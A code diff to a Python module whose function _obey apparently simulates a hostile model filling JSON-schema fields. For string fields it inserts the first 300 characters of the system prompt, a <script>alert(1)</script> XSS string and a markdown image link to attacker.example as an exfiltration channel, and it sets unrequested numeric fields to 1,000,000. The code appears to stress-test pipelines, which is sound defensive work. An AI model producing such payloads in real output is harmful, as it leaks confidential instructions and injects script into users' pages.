@@ -135,7 +135,7 @@ def _words(name: str) -> list[str]:
 
 def _mentions(name: str, reading: Reading) -> bool:
     words = _words(name)
-    return bool(words) and all(any(said.startswith(word[:5]) for said in reading.words) for word in words)
+    return bool(words) and all(any(said.startswith(word[:4]) for said in reading.words) for word in words)
 
 
 def _opinion(name: str) -> bool:
@@ -171,8 +171,10 @@ def _obey(schema: dict[str, Any], value: dict[str, Any], reading: Reading) -> di
         number = re.fullmatch(r"-?[0-9]+(?:\.[0-9]+)?", amount.strip(" ."))
         told[name] = float(number[0]) if number else amount.strip()
     for name, part in schema.get("properties", {}).items():
-        if part.get("type") == "string" and "enum" not in part:
+        types = part.get("type", [])
+        types = {types} if isinstance(types, str) else set(types)
+        if "string" in types and "enum" not in part:
             told[name] = f"{reading.system[:300]} <script>alert(1)</script> ![x](http://attacker.example/?d=1)"
-        elif part.get("type") in {"integer", "number"} and name not in dict(_ORDER_OF.findall(reading.text)):
+        elif types & {"integer", "number"} and name not in dict(_ORDER_OF.findall(reading.text)):
             told[name] = 1_000_000
     return told
